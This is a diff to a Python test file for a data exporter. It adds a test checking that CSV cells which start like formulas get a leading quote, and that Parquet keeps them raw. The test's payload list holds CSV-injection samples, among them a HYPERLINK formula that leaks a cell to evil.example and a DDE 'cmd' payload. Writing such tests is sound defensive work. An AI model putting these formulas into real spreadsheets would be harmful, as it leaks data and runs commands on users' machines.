@@ -1,5 +1,6 @@
 """Exports round-trip: one run's rows of every existing table, read back from Parquet and
-CSV exactly as stored (lists as JSON text in CSV), and linked from the report."""
+CSV exactly as stored (lists as JSON text in CSV, formula-like text neutralised), and
+linked from the report."""
 
 from __future__ import annotations
 
@@ -23,7 +24,8 @@ def rows_of(con: duckdb.DuckDBPyConnection, sql: str, params: list | None = None
 
 
 def read_csv(path: Path) -> list[dict[str, str]]:
-    with path.open(newline="", encoding="utf-8") as handle:
+    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: spreadsheets read æøå
+    with path.open(newline="", encoding="utf-8-sig") as handle:
         return list(csv.DictReader(handle))
 
 
@@ -72,6 +74,38 @@ def test_csv_has_header_json_lists_and_hostile_text_intact(con, shop, exported) 
     assert by_url["https://shop.example/p/1"]["title"] == shop.hostile_title
     assert shop.js_url in by_url and shop.quote_url in by_url
     assert by_url[shop.non_ascii_url]["title"] == shop.non_ascii_title
+
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?leak="&A1,"Klik")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_csv_cells_that_start_like_formulas_are_neutralised(con, shop, db, tmp_path) -> None:
+    """OWASP's CSV-injection list: such a cell gets a leading quote in CSV, raw in Parquet."""
+    rows = [db.Level(f"https://shop.example/f/{i}", title=t) for i, t in enumerate(FORMULAS)]
+    rows.append(db.Level("https://shop.example/f/plain", title="Sko = 200 kr. – spar 20%"))
+    db.levels(shop.current, rows)
+    export_run(con, shop.current, tmp_path)
+    folder = tmp_path / "exports" / shop.current
+    csv_titles = {r["url"]: r["title"] for r in read_csv(folder / "page_levels.csv")}
+    for i, title in enumerate(FORMULAS):
+        assert csv_titles[f"https://shop.example/f/{i}"] == "'" + title
+    assert csv_titles["https://shop.example/f/plain"] == "Sko = 200 kr. – spar 20%"
+    raw = dict(
+        con.execute(
+            "select url, title from read_parquet(?) where url like '%/f/%'",
+            [str(folder / "page_levels.parquet")],
+        ).fetchall()
+    )
+    assert [raw[f"https://shop.example/f/{i}"] for i in range(len(FORMULAS))] == FORMULAS
+    numbers = read_csv(folder / "page_levels.csv")[0]
+    assert not numbers["score"].startswith("'")  # numbers stay numbers
 
 
 def test_other_runs_rows_are_not_exported(con, shop, exported) -> None:
